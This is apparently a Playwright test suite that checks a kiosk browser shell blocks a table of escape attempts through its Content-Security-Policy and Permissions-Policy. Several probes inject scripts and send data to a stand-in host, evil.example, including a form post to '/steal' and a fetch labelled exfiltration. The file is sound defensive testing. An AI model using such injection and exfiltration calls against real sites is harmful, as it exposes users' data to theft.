import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';

/**
 * The escape table, for the browser shell: the attempts that apply to a page in Chromium, run
 * against the real host and the real renderer. Each is asserted blocked. Chromium's own
 * shortcuts (new windows, DevTools, print, closing the window…) never receive Playwright's
 * synthetic keys: kiosk-real-keys.spec.ts sends them as real X events to the kiosk `npm start`
 * runs, and asks the X server what they did.
 */

/** Runs `attempt` in the page and reports what the page saw. */
type Probe = (page: Page, ctx: { hostUrl: string; token: string }) => Promise<string>;

/** Resolves with the violated directive when the page reports a CSP violation, else 'none'. */
const violation = (page: Page, act: string) =>
  page.evaluate(async (code) => {
    const seen = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
        once: true,
      });
      setTimeout(() => resolve('none'), 2_000);
    });
    // Each probe's action is DOM work, not eval: eval is what the policy forbids.
    const [kind, value] = code.split('|', 2) as [string, string];
    if (kind === 'iframe') {
      const frame = document.createElement('iframe');
      frame.src = value;
      document.body.append(frame);
    } else if (kind === 'form') {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = value;
      document.body.append(form);
      form.submit();
    } else if (kind === 'fetch') {
      fetch(value).catch(() => undefined);
    } else if (kind === 'script') {
      const script = document.createElement('script');
      script.textContent = value;
      document.body.append(script);
    } else if (kind === 'object') {
      const object = document.createElement('object');
      object.data = value;
      document.body.append(object);
    } else if (kind === 'base') {
      const base = document.createElement('base');
      base.href = value;
      document.head.append(base);
    } else if (kind === 'external-script') {
      const script = document.createElement('script');
      script.src = value;
      document.body.append(script);
    } else if (kind === 'onclick') {
      const button = document.createElement('button');
      button.setAttribute('onclick', value);
      document.body.append(button);
      button.click();
    } else if (kind === 'javascript') {
      const link = document.createElement('a');
      link.href = `javascript:${value}`;
      document.body.append(link);
      link.click();
    } else if (kind === 'image') {
      const image = document.createElement('img');
      image.src = value;
      document.body.append(image);
    }
    return seen;
  }, act);

/**
 * A feature switched off by the page's Permissions-Policy: its API rejects without a prompt.
 * (Asked through the policy, not the API: with no camera attached, getUserMedia fails with
 * NotFoundError before the policy is even consulted, which would prove nothing.)
 */
const featureOff =
  (feature: string): Probe =>
  (page) =>
    page.evaluate(
      (name) =>
        (
          document as unknown as { featurePolicy: { allowsFeature(f: string): boolean } }
        ).featurePolicy.allowsFeature(name)
          ? 'on'
          : 'off',
      feature,
    );

const table: Array<[string, Probe, string]> = [
  [
    'an inline event handler (onclick)',
    (page) => violation(page, 'onclick|window.__ran = 1'),
    'script-src-attr',
  ],
  [
    'a javascript: URL',
    (page) => violation(page, 'javascript|window.__ran = 1'),
    'script-src-elem',
  ],
  [
    'an injected inline <script>',
    (page) => violation(page, 'script|window.__ran = 1'),
    'script-src-elem',
  ],
  [
    'a script from another origin',
    (page) => violation(page, 'external-script|https://evil.example/x.js'),
    'script-src-elem',
  ],
  [
    'an iframe of another origin',
    (page) => violation(page, 'iframe|https://evil.example/'),
    'frame-src',
  ],
  [
    'an iframe of a data: URL',
    (page) => violation(page, 'iframe|data:text/html,<h1>x</h1>'),
    'frame-src',
  ],
  [
    'a form posted to another origin',
    (page) => violation(page, 'form|https://evil.example/steal'),
    'form-action',
  ],
  [
    'a fetch to another origin (exfiltration)',
    (page) => violation(page, 'fetch|https://evil.example/x'),
    'connect-src',
  ],
  [
    'an <object> plugin',
    (page) => violation(page, 'object|https://evil.example/x.swf'),
    'object-src',
  ],
  [
    'a <base> that re-points relative links',
    (page) =>
      page.evaluate(() => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
        return document.baseURI.startsWith('https://evil.example') ? 'moved' : 'kept';
      }),
    'kept',
  ],
  [
    'an image beacon to another origin',
    (page) => violation(page, 'image|https://evil.example/p.gif'),
    'img-src',
  ],
  [
    'the bridge WebSocket without the token',
    (page, { hostUrl }) =>
      page.evaluate(
        (url) =>
          new Promise<string>((resolve) => {
            const ws = new WebSocket(url);
            ws.onopen = () => resolve('open');
            ws.onerror = () => resolve('refused');
          }),
        `${hostUrl.replace('http', 'ws')}bridge`,
      ),
    'refused',
  ],
  [
    'the bridge WebSocket with a wrong token',
    (page, { hostUrl }) =>
      page.evaluate(
        (url) =>
          new Promise<string>((resolve) => {
            const ws = new WebSocket(url);
            ws.onopen = () => resolve('open');
            ws.onerror = () => resolve('refused');
          }),
        `${hostUrl.replace('http', 'ws')}bridge?token=${'x'.repeat(32)}`,
      ),
    'refused',
  ],
  [
    'a geolocation prompt',
    (page) =>
      page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            navigator.geolocation.getCurrentPosition(
              () => resolve('granted'),
              (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : 'error'),
            );
          }),
      ),
    'denied',
  ],
  ['a camera prompt (the feature is off for the page)', featureOff('camera'), 'off'],
  ['a microphone prompt (the feature is off for the page)', featureOff('microphone'), 'off'],
  [
    'a display-capture prompt (the feature is off for the page)',
    featureOff('display-capture'),
    'off',
  ],
  ['a usb prompt (the feature is off for the page)', featureOff('usb'), 'off'],
  ['a hid prompt (the feature is off for the page)', featureOff('hid'), 'off'],
  ['a serial prompt (the feature is off for the page)', featureOff('serial'), 'off'],
  ['a bluetooth prompt (the feature is off for the page)', featureOff('bluetooth'), 'off'],
  ['a midi prompt (the feature is off for the page)', featureOff('midi'), 'off'],
  ['a payment prompt (the feature is off for the page)', featureOff('payment'), 'off'],
  [
    'a clipboard-read prompt (the feature is off for the page)',
    featureOff('clipboard-read'),
    'off',
  ],
  [
    'a idle-detection prompt (the feature is off for the page)',
    featureOff('idle-detection'),
    'off',
  ],
  [
    'a window-management prompt (the feature is off for the page)',
    featureOff('window-management'),
    'off',
  ],
];

test.describe('the browser shell escape table', () => {
  test('has the attempts that apply to a page in Chromium', () => {
    expect(table.length).toBeGreaterThanOrEqual(20);
  });

  // One kiosk stack and one page for the whole table keeps the suite to seconds; each attempt is
  // its own step and a soft assertion, so the report names every attempt that got through.
  test('blocks every attempt in the table', async ({ page, kiosk }) => {
    await kiosk.open(page);
    for (const [name, probe, expected] of table) {
      await test.step(`blocks: ${name}`, async () => {
        const seen = await probe(page, { hostUrl: kiosk.host.url, token: kiosk.host.token });
        expect.soft(seen, name).toBe(expected);
      });
    }
    // Nothing of any attempt ran in the page, and the page is still the kiosk.
    expect(
      await page.evaluate(() => (window as unknown as { __ran?: number }).__ran),
    ).toBeUndefined();
    expect(page.url().startsWith(kiosk.host.url)).toBe(true);
  });

  test('serves the page so that no other site can frame it', async ({ kiosk }) => {
    const response = await fetch(kiosk.host.url);
    expect(response.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
  });
});
